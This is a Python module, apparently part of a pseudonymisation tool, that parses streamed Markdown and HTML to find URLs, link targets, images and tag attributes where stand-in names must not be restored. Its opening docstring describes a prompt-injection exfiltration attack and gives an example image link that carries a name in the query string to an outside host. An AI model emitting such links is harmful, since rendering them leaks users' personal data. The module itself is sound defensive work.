"""Where in an answer no name may come back: in addresses, link targets, pictures and the attributes of HTML.

A sentence that somebody smuggled into a prompt can make a model write `![a](https://elsewhere/?q=PersonQ7K2)`. With the
name restored, whoever shows the picture sends the name. So this is a reader of Markdown and HTML that errs on the side
of protection: it knows too many addresses rather than too few. The end of an address is that of GitHub's extended
autolinks (GFM section 6.9: up to white space or `<`), or the backtick, outside of prose also the quote, before it.

The stream is read once, piece by piece. A piece ends at a line's end or where a stand-in begins, so that nothing which
opens or closes is cut in two.
"""

import copy
import re
from enum import Enum, auto
from typing import Final

_RUN_LIMIT = 4096
"""Longer addresses and tags are not compared with those that left."""

# The first character is one of few, which the engine looks for fastest.
_OPENS_PLAIN: Final = re.compile(r"[:./](?P<address>(?<=:)//|(?<=\bwww\.)|(?<=/)/(?=[\w-]{1,63}\.))", re.IGNORECASE)
_OPENS_PROSE: Final = re.compile(
    r"[:./\]!<](?:(?P<address>(?<=:)//|(?<=\bwww\.)|(?<=/)/(?=[\w-]{1,63}\.)|(?<=\.)[a-z]{2,24}[/?]"
    r"|(?:(?<=\bmailto:)|(?<=\btel:)|(?<=\bsms:)|(?<=\bdata:)|(?<=\bblob:)|(?<=\bfile:)|(?<=script:))(?!\s))"
    r"|(?P<target>(?<=\])\()|(?P<picture>(?<=!)\[)|(?P<tag>(?<=<)(?=[a-z/!?]))|(?P<definition>(?<=\]):))",
    re.IGNORECASE,
)
_BEFORE = r"(?:[A-Za-z][A-Za-z0-9+.-]{0,30})?\Z"
_QUOTED_PROSE: Final = re.compile("`" + _BEFORE)
_QUOTED_PLAIN: Final = re.compile("[\"'`]" + _BEFORE)
_AFTER_ADDRESS: Final = "\"'`.,;:!?)]}*_>"
_DEFINES: Final = re.compile(r" {0,3}\[(?!\^)")
_BLANK_LINE = r"\n[ \t\r]*\n"
_LINE_HEAD = 5
_SPACE: Final = re.compile(r"\s")


class _State(Enum):
    TEXT = auto()
    ADDRESS = auto()
    TARGET = auto()
    ANGLE = auto()
    PICTURE = auto()
    TAG = auto()
    ATTRIBUTE = auto()
    DEFINITION = auto()


_EVENTS: Final = {
    _State.TARGET: re.compile(rf"\\.|[()<]|{_BLANK_LINE}"),
    _State.ANGLE: re.compile(r"[>\n]"),
    _State.PICTURE: re.compile(rf"\\.|[\[\]]|{_BLANK_LINE}"),
    _State.TAG: re.compile(rf"=\s{{0,5}}[\"']|>|{_BLANK_LINE}"),
}


class Surroundings:
    """Reads on; `protected` says whether what comes next may not be restored.

    `prose` is Markdown and HTML; otherwise, as in what a tool is given, only addresses count.
    """

    __slots__ = ("_depth", "_line", "_prose", "_quote", "_state", "run")

    def __init__(self, *, prose: bool) -> None:
        self._prose = prose
        self._state = _State.TEXT
        self._depth = 0
        self._quote = ""
        self._line = ""
        self.run = ""
        """The protected text so far, from where it opened."""

    @property
    def protected(self) -> bool:
        """Whether the next character is part of an address, a link target, a picture or a tag."""
        return self._state is not _State.TEXT

    def advance(self, text: str) -> None:
        """Read on."""
        position = 0
        while position < len(text):
            position = self.step(text, position)
        line = text.rfind("\n")
        self._line = text[line + 1 : line + 1 + _LINE_HEAD] if line >= 0 else (self._line + text)[:_LINE_HEAD]

    def end(self, text: str) -> int | None:
        """Where in `text`, which comes next, what is protected now ends; None if not within it."""
        ahead = copy.copy(self)
        position = 0
        while ahead.protected and position < len(text):
            position = ahead.step(text, position)
        return None if ahead.protected else position

    def step(self, text: str, position: int) -> int:
        """Read up to the next change of state, and give where it is."""
        before = self._state
        if before is _State.TEXT:
            return self._open(text, position)
        if before is _State.ADDRESS:
            end = self._end_of_address(text, position)
        elif before is _State.DEFINITION:
            end = self._end_of_definition(text, position)
        elif before is _State.ATTRIBUTE:
            place = text.find(self._quote, position)
            end = len(text) if place < 0 else place + 1
            self._state = before if place < 0 else _State.TAG
        else:
            event = _EVENTS[before].search(text, position)
            end = len(text) if event is None else event.end()
            if event is not None:
                end = self._change(before, event[0], text, end)
        self.run = (self.run + text[position:end])[: _RUN_LIMIT + 1] if self.protected else ""
        return end

    def _open(self, text: str, position: int) -> int:
        opens = (_OPENS_PROSE if self._prose else _OPENS_PLAIN).search(text, position)
        if opens is None:
            return len(text)
        match opens.lastgroup:
            case "address":
                self._state = _State.ADDRESS
                quoted = (_QUOTED_PROSE if self._prose else _QUOTED_PLAIN).search(
                    text[max(0, opens.start() - 33) : opens.start()]
                )
                self._quote = "" if quoted is None else quoted[0][0]
            case "target":
                self._state, self._depth = _State.TARGET, 1
            case "picture":
                self._state, self._depth = _State.PICTURE, 1
            case "tag":
                self._state = _State.TAG
            case _:
                line = text.rfind("\n", 0, opens.start()) + 1
                head = text[line : opens.start()] if line else self._line + text[: opens.start()]
                self._state, self._depth = (_State.DEFINITION if _DEFINES.match(head) else _State.TEXT), 0
        self.run = opens[0] if self.protected else ""
        return opens.end()

    def _end_of_address(self, text: str, position: int) -> int:
        ends = [place for stop in ("<", self._quote) if stop and (place := text.find(stop, position)) >= 0]
        space = _SPACE.search(text, position)
        if space is not None:
            ends.append(space.start())
        if not ends:
            return len(text)
        self._state = _State.TEXT
        return min(ends)

    def _end_of_definition(self, text: str, position: int) -> int:
        """The end of the line that holds the target; it may be the next one."""
        end = text.find("\n", position)
        line = text[position : end if end >= 0 else len(text)]
        self._depth = self._depth or bool(line.strip())
        if end < 0:
            return len(text)
        if self._depth:
            self._state = _State.TEXT
        return end + 1

    def _change(self, state: _State, event: str, text: str, end: int) -> int:
        """What an event in a state changes; gives where to read on."""
        if event[0] == "\\":
            return end
        if event[0] == "\n" and state is not _State.ANGLE:
            self._state = _State.TEXT
        elif state is _State.TAG:
            self._state, self._quote = (_State.TEXT, "") if event == ">" else (_State.ATTRIBUTE, event[-1])
        elif state is _State.ANGLE:
            self._state = _State.TARGET
        elif event == "<":
            # Only at its begin a target may stand between angle brackets.
            self._state = _State.ANGLE if self.run.lstrip("](").strip() == "" else state
        else:
            self._depth += 1 if event in "([" else -1
            if not self._depth:
                return self._close(state, text, end)
        return end

    def _close(self, state: _State, text: str, end: int) -> int:
        follows = text[end : end + 1]
        self._state = _State.TEXT
        if state is _State.PICTURE and follows and follows in "([":
            self._state, self._depth = (_State.TARGET if follows == "(" else _State.PICTURE), 1
            return end + 1
        return end


def told(run: str) -> str:
    """What two writings of one address have in common: as a link's target and bare, with and without a stop behind."""
    if run.startswith("]("):
        run = run[2:].strip("<> ")
        scheme = run.find("://")
        run = run[scheme:] if scheme >= 0 else run
    return run.rstrip(_AFTER_ADDRESS)


def protected_runs(text: str, *, prose: bool) -> set[str]:
    """All addresses, targets, pictures and tags of a whole text, each from its begin to its end."""
    surroundings = Surroundings(prose=prose)
    runs: set[str] = set()
    position, begin = 0, 0
    while position < len(text):
        was = surroundings.protected
        after = surroundings.step(text, position)
        if not was and surroundings.protected:
            begin = after - len(surroundings.run)
        if was and not surroundings.protected and after - begin <= _RUN_LIMIT:
            runs.add(told(text[begin:after]))
        position = after
    if surroundings.protected and len(text) - begin <= _RUN_LIMIT:
        runs.add(told(text[begin:]))
    return runs
